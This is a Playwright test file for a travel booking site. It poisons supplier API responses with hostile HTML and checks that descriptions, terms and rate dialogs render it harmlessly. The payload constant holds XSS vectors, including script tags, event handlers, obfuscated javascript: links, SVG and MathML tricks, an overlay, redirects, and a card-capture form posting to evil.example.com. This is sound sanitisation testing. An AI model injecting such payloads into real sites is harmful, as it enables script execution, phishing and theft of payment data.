import type { Page, Route } from "@playwright/test";
import { clearFaults, orderFault } from "../support/faults.ts";
import { expect, test } from "../support/journey.ts";
import { weekForTwo } from "../support/stay-dates.ts";
import { EN } from "../support/world.ts";

/** HTML from Galaxy with everything that must never run or render, between words that may be shown. */
const HOSTILE = `<p onclick="window.__hostile=1" onmouseover="window.__hostile=1">Honest first words.</p>
<script>window.__hostile=1;alert(1)</script><img src="x" onerror="window.__hostile=1">
<a href="javascript:window.__hostile=1">A poisoned link</a><a href="java&#115;cript:window.__hostile=1">Another</a>
<div style="position:fixed;inset:0;background:red;z-index:99999" class="cover">Covers everything</div>
<style>body{display:none!important}*{color:red}</style><link rel="stylesheet" href="https://evil.example.com/a.css">
<iframe src="https://evil.example.com" srcdoc="<script>parent.__hostile=1</script>"></iframe>
<svg onload="window.__hostile=1"><a href="javascript:window.__hostile=1"><text>x</text></a></svg>
<math><mtext><style><img src=x onerror="window.__hostile=1"></style></mtext></math>
<form action="https://evil.example.com"><input name="card"><button>Pay</button></form>
<base href="https://evil.example.com/"><meta http-equiv="refresh" content="0;url=https://evil.example.com">
<p>Honest last words.</p>`;

type Json = null | boolean | number | string | readonly Json[] | { readonly [key: string]: Json };

/** Fills the HTML fields of the contract: descriptions of content, numbered texts, terms. */
function poisoned(value: Json, key = "", isContent = false): Json {
  if (Array.isArray(value)) return value.map((one) => poisoned(one, key));
  if (typeof value === "object" && value !== null) {
    const hasImages = "Images" in value;
    const changed = Object.entries(value).map(([name, part]) => [name, poisoned(part, name, hasImages)]);
    const poisonedObject = Object.fromEntries(changed);
    return key === "Content" && "Information" in value
      ? { ...poisonedObject, Information: [101, 102].map((Id) => ({ Id, Value: HOSTILE })) }
      : poisonedObject;
  }
  const isHtml = key === "Terms" || (key === "Description" && isContent);
  return isHtml ? HOSTILE : value;
}

async function poison(route: Route) {
  const answer = await route.fetch();
  await route.fulfill({ response: answer, json: poisoned(await answer.json()) });
}

async function expectHarmless(page: Page) {
  await expect(page.getByText("Honest first words.").first()).toBeAttached();
  await expect(page.getByText("Honest last words.").first()).toBeAttached();
  const found = await page.evaluate(() => ({
    flag: "__hostile" in window,
    elements: document.querySelectorAll(
      ":is(main, [role=dialog]) :is(script:not([type*=json]), style, link, iframe, object, embed, form[action], base, meta, [onclick], [onerror], [onload], [onmouseover], .cover, a[href^=javascript])",
    ).length,
    red: [...document.querySelectorAll(":is(main, [role=dialog]) *")].filter(
      (element) => getComputedStyle(element).backgroundColor === "rgb(255, 0, 0)",
    ).length,
  }));
  expect(found).toEqual({ flag: false, elements: 0, red: 0 });
}

/** Nothing covers the page: the controls at its edges can be clicked. */
async function expectUncovered(page: Page) {
  await page.getByRole("banner").getByRole("button", { name: "Basket" }).click({ trial: true });
  await page.getByRole("contentinfo").getByRole("link").last().click({ trial: true });
}

test.beforeEach(({ page }) => {
  page.on("dialog", (dialog) => {
    throw new Error(`A text of the wire opened a dialog: ${dialog.message()}`);
  });
});
test.afterEach(({ site }) => clearFaults(site.address));

test("CD-03 PK-05 hostile HTML in every HTML field of the contract: descriptions, terms, numbered texts", async ({
  page,
  site,
}) => {
  await page.route("**/api/galaxy/stays/**", (route) =>
    route.request().method() === "GET" ? poison(route) : route.continue(),
  );
  // The server requests first and fails, so that every answer comes through the browser.
  await orderFault(site.address, { operation: "searchAccommodation", kind: "fail", remaining: 1 });
  await orderFault(site.address, { operation: "getAccommodationContent", kind: "fail", remaining: 1 });
  await page.goto(`${EN}/stays/village/2001/x${weekForTwo()}`);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  const conditions = page.getByText(/^Conditions: /).first();
  await conditions.click();
  await expectHarmless(page);
  await expectUncovered(page);

  await page.getByRole("button", { name: "Choose rate" }).first().click();
  const rates = page.getByRole("dialog", { name: /^Rate option: / });
  await expect(rates.getByRole("button", { name: "Add to cart" }).first()).toBeVisible();
  await expectHarmless(page);
  await page.keyboard.press("Escape");
  await expect(rates).toBeHidden();

  const about = page.getByRole("button", { name: /^Read about / }).first();
  await page.getByRole("heading", { level: 2, name: "Amenities" }).scrollIntoViewIfNeeded();
  await about.click();
  await expect(page.getByRole("dialog").getByText("Honest first words.").first()).toBeVisible();
  await expectHarmless(page);
});
